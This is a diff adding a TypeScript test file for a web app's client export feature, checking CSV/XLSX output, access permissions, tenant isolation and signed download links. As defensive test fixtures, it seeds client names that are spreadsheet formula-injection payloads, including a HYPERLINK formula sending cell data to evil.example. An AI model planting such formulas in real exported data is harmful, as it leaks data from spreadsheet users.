@@ -1,0 +1,185 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { and, desc, eq, sql } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { rows } from '../../src/db/index.js';
+import { mailMessages } from '../../src/platform/mail/schema.js';
+import { fileProcesses } from '../../src/process-log/schema.js';
+import type { Tenant } from '../../src/tenants/schema.js';
+import { startTestApp, type Harness, type TestClient } from '../support/app.js';
+import { addStaff, loggedIn, newTenant, type Staff } from '../support/factories.js';
+import { addClients, addManyClients } from './support.js';
+
+const libreoffice = (() => {
+  try {
+    execFileSync('libreoffice', ['--version'], { stdio: 'ignore' });
+    return true;
+  } catch {
+    return false;
+  }
+})();
+if (!libreoffice) console.warn('\n  LibreOffice check SKIPPED: no `libreoffice` on PATH (apt-get install libreoffice-calc).\n');
+
+let h: Harness;
+let acme: Tenant;
+let admin: Staff;
+
+beforeAll(async () => {
+  h = await startTestApp({ jobs: true });
+  acme = await newTenant(h);
+  admin = await addStaff(h, acme, { role: 'admin' });
+  await addClients(h, acme.id, [
+    { name: 'María Peña', documentNumber: '01234567', segment: 'Premium' },
+    { name: 'José Ávila', documentNumber: '00456789', segment: 'Premium' },
+    { name: 'Otro Cliente', documentNumber: '99999999', segment: 'Básico' },
+    { name: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', documentNumber: '11111111', segment: 'Premium' },
+    { name: '+51 987', documentNumber: '22222222', segment: 'Premium' },
+    { name: '-2+3', documentNumber: '33333333', segment: 'Premium' },
+    { name: '@SUM(A1)', documentNumber: '44444444', segment: 'Premium' },
+    { name: '\tcmd', documentNumber: '55555555', segment: 'Premium' },
+  ]);
+});
+afterAll(() => h.close());
+
+async function download(client: TestClient, format: 'csv' | 'xlsx', query: string) {
+  const response = await client.post('/app/exports', { kind: 'clients', format, query });
+  expect(response.status).toBe(303);
+  expect(response.headers.get('Location')).toBe('/app/process-log');
+  await h.runJobs();
+  const [process] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, acme.id)).orderBy(desc(fileProcesses.id)).limit(1);
+  expect(process!.state).toBe('completed');
+  const file = await client.get(`/app/process-log/${process!.id}/files/result`);
+  expect(file.status).toBe(200);
+  return { process: process!, body: Buffer.from(await file.arrayBuffer()) };
+}
+
+const saved = (body: Buffer, name: string) => {
+  const path = join(mkdtempSync(join(tmpdir(), 'export-')), name);
+  writeFileSync(path, body);
+  return path;
+};
+
+describe('downloading the clients tray', () => {
+  it('the csv holds exactly the rows of the current filters and the columns the user sees, formulas neutralised', async () => {
+    const client = await loggedIn(h, acme, admin);
+    const { body, process } = await download(client, 'csv', 'segment=Premium');
+    const text = body.toString('utf8');
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    const lines = text.slice(1).trimEnd().split('\r\n');
+    expect(lines[0]).toBe('Documento,Nombre,Correo electrónico,Teléfono,Segmento,Estado,Situación,Monto total OP');
+    expect(lines).toHaveLength(1 + 7);
+    expect(text).not.toContain('Otro Cliente');
+    expect(text).toContain('DNI 01234567,María Peña');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`);
+    expect(text).toContain(`'+51 987`);
+    expect(text).toContain(`'-2+3`);
+    expect(text).toContain(`'@SUM(A1)`);
+    expect(text).toContain(`'\tcmd`);
+    expect(process.counts.rows).toBe(7);
+  });
+
+  it('the xlsx writes every value as a typed value, never a formula', async () => {
+    const client = await loggedIn(h, acme, admin);
+    const { body } = await download(client, 'xlsx', 'segment=Premium');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(body as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0]!;
+    expect(sheet.rowCount).toBe(8);
+    const names: unknown[] = [];
+    sheet.eachRow((row, n) => {
+      if (n === 1) return;
+      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
+      names.push(row.getCell(2).value);
+    });
+    expect(names).toContain('=HYPERLINK("http://evil.example/?x="&A1,"clic")');
+    expect(body.includes(Buffer.from('<f>'))).toBe(false);
+  });
+
+  it.runIf(libreoffice)('an exported xlsx opens in LibreOffice', { timeout: 120_000 }, async () => {
+    const client = await loggedIn(h, acme, admin);
+    const { body } = await download(client, 'xlsx', 'segment=Premium');
+    const path = saved(body, 'clientes.xlsx');
+    const out = join(path, '..');
+    execFileSync('libreoffice', ['--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', out, path], { stdio: 'ignore', timeout: 110_000 });
+    const csv = readFileSync(join(out, 'clientes.csv'), 'utf8');
+    expect(csv).toContain('María Peña');
+    expect(csv).toContain('DNI 00456789');
+    expect(csv.trimEnd().split('\n')).toHaveLength(8);
+  });
+
+  it('more than 50,000 rows asks for confirmation, then schedules the download for 02:00 tenant time', async () => {
+    const big = await newTenant(h, { timezone: 'America/Lima' });
+    const boss = await addStaff(h, big, { role: 'admin' });
+    await addManyClients(h, big.id, 50_001);
+    const client = await loggedIn(h, big, boss);
+
+    const asked = await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '' });
+    expect(asked.status).toBe(200);
+    const page = await asked.text();
+    expect(page).toContain('50,001');
+    expect(page).toContain('Generar esta noche');
+    expect(await h.db.$count(fileProcesses, eq(fileProcesses.tenantId, big.id))).toBe(0);
+
+    const confirmed = await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '', confirm: '1' });
+    expect(confirmed.status).toBe(303);
+    const [process] = await h.db.select().from(fileProcesses).where(eq(fileProcesses.tenantId, big.id));
+    // The clock is 2026-03-10 10:00 in Lima (UTC−5): the next 02:00 there is 07:00 UTC on the 11th.
+    expect(process!.scheduledFor?.toISOString()).toBe('2026-03-11T07:00:00.000Z');
+    const [job] = await rows<{ start_after: Date }>(h.db, sql`select start_after from pgboss.job where name = 'exports.run' and data->>'processId' = ${String(process!.id)}`);
+    expect(new Date(job!.start_after).toISOString()).toBe('2026-03-11T07:00:00.000Z');
+    const log = await (await client.get('/app/process-log')).text();
+    expect(log).toContain('programado para');
+  });
+});
+
+describe('who may download', () => {
+  it('a user without reports.download cannot ask for a download nor fetch one, and nothing is created', async () => {
+    const client = await loggedIn(h, acme, admin);
+    const { process } = await download(client, 'csv', '');
+    const before = await h.db.$count(fileProcesses, eq(fileProcesses.tenantId, acme.id));
+    const supervisor = await addStaff(h, acme, { role: 'supervisor', revoke: ['reports.download'] });
+    const refused = await loggedIn(h, acme, supervisor);
+    expect((await refused.post('/app/exports', { kind: 'clients', format: 'csv', query: '' })).status).toBe(403);
+    expect((await refused.get(`/app/process-log/${process.id}/files/result`)).status).toBe(403);
+    expect(await h.db.$count(fileProcesses, eq(fileProcesses.tenantId, acme.id))).toBe(before);
+  });
+
+  it('another tenant gets a 404 for this tenant’s files', async () => {
+    const client = await loggedIn(h, acme, admin);
+    const { process } = await download(client, 'csv', '');
+    const other = await newTenant(h);
+    const stranger = await loggedIn(h, other, await addStaff(h, other, { role: 'admin' }));
+    expect((await stranger.get(`/app/process-log/${process.id}/files/result`)).status).toBe(404);
+    expect((await stranger.get(`/app/process-log/${process.id}/row`)).status).toBe(404);
+  });
+
+  it('the emailed link is signed: it works without a session, not on another tenant, not once expired, not after the permission is gone', async () => {
+    const client = await loggedIn(h, acme, admin);
+    await download(client, 'csv', 'segment=Básico');
+    const [mail] = await h.db.select().from(mailMessages).where(and(eq(mailMessages.tenantId, acme.id), eq(mailMessages.to, admin.email))).orderBy(desc(mailMessages.id)).limit(1);
+    expect(mail!.subject).toBe('Tu descarga está lista');
+    const link = /http:\/\/[^\s]+\/files\/[^\s]+/.exec(mail!.text)![0];
+    const path = new URL(link).pathname;
+
+    const anonymous = h.client(acme);
+    const file = await anonymous.get(path);
+    expect(file.status).toBe(200);
+    expect(await file.text()).toContain('Otro Cliente');
+
+    const other = await newTenant(h);
+    expect((await h.client(other).get(path)).status).toBe(404);
+    expect((await anonymous.get(`${path.slice(0, -2)}xx`)).status).toBe(404);
+
+    h.clock.advance(8 * 86_400_000);
+    expect((await anonymous.get(path)).status).toBe(404);
+    h.clock.advance(-8 * 86_400_000);
+
+    const { users } = await import('../../src/users/schema.js');
+    await h.db.update(users).set({ permissionOverrides: { 'reports.download': false } }).where(eq(users.id, admin.id));
+    expect((await anonymous.get(path)).status).toBe(403);
+    await h.db.update(users).set({ permissionOverrides: {} }).where(eq(users.id, admin.id));
+  });
+});
